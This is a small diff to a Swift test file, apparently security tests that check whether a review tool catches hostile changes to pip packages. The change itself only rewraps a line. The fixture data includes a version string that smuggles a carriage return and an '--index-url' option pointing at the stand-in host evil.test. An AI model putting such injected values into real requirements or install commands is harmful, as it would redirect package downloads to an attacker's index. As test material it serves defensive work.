@@ -159,7 +159,8 @@ struct AttackReviewTests {
     func requirementsInjection() throws {
         let sp = "/venv/lib/python3.11/site-packages"
         func change(_ name: String, _ kind: PipChangeKind, _ to: String, url: String? = nil) -> PipChange {
-            PipChange(name: name, change: kind, from: nil, to: to, sitePackages: sp, files: [], allowed: false, url: url)
+            PipChange(name: name, change: kind, from: nil, to: to, sitePackages: sp, files: [], allowed: false,
+                      url: url)
         }
         let hostile = [
             change("six", .upgraded, "1.17.0\r--index-url http://evil.test/simple"),
